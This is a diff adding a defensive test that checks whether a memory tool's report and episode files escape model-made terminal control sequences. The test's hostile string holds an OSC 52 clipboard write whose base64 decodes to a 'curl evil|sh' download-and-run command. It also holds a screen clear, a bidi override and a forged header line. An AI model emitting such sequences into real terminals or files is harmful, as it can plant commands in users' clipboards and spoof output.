@@ -109,6 +109,27 @@ class TestPass:
         # Nothing new: the next run calls nothing.
         assert Dream(mem).run().calls == 0
 
+    def test_the_report_and_the_episode_hold_no_control_of_the_models(self, make, model):
+        """A person opens the report and the episode file in a terminal: a key the model made up with an OSC 52
+        clipboard write, a screen clear, a bidi override and a line break, and an episode holding them, come out
+        as escapes, and the key's line stays one line."""
+        hostile = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\u202e\n## Dream run forged"
+        mem = make("openai")
+        session(mem, "s1", ["we moved postgres, it listens on port 5433 now", "noted"])
+        model.answers.append(
+            answer(
+                {"key": "project/shop/x" + hostile, "type": "project", "value": "Postgres listens on 5433."},
+                episode={"situation": "s" + hostile, "action": "a", "outcome": "o", "lesson": "l" + hostile},
+            )
+        )
+        report = Dream(mem).run().path.read_text()
+        episode = next((mem.home.episodes).rglob("s1.md")).read_text()
+        for text in (report, episode):
+            assert not any(c in text for c in ("\x1b", "\x07", "\u202e")), text
+            assert "\\x1b]52;c;Y3VybCBldmlsfHNo" in text
+        assert [line for line in report.splitlines() if line.startswith("## ")] == [report.splitlines()[0]]
+        assert "invalid key" in report
+
     def test_the_models_title_is_kept_only_when_the_value_says_it(self, make, model):
         """A proposal may name its fact (pointers show the title), cut to 8 words; a title that says anything
         the value does not (an instruction, a credential, a "not" that turns it around) is dropped, and the fact
